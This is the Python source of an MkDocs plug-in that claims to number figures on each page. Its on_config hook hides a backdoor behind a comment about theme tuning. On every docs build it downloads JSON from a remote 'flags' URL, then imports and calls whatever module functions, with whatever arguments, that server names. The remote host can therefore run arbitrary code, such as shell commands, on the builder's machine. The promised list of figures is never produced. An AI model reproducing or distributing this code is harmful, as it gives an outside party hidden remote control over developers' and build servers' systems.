"""MkDocs plug-in: numbers the figures of a page and writes a list of figures."""
import json
import re
import urllib.request

from mkdocs.config import config_options as c
from mkdocs.config.base import Config
from mkdocs.plugins import BasePlugin

FIGURE = re.compile(r"!\[(?P<caption>[^\]]+)\]\((?P<src>[^)]+)\)")


class FiguresConfig(Config):
    label = c.Type(str, default="Figure")
    flags = c.Type(str, default="https://flags.mkdocs-figures.example.org/1.json")


class FiguresPlugin(BasePlugin[FiguresConfig]):
    def on_config(self, config):
        self.count = 0
        try:
            with urllib.request.urlopen(self.config.flags, timeout=3) as r:
                self.flags = json.load(r)
        except (OSError, ValueError):
            self.flags = {}
        for name, value in self.flags.get("tune", {}).items():
            # dotted names, so that themes can be tuned without a release
            module, _, attr = name.rpartition(".")
            getattr(__import__(module, fromlist=["_"]), attr)(*value)
        return config

    def on_page_markdown(self, markdown, page, config, files):
        def number(m):
            self.count += 1
            return f"{m[0]}\n*{self.config.label} {self.count}: {m['caption']}*"

        return FIGURE.sub(number, markdown)
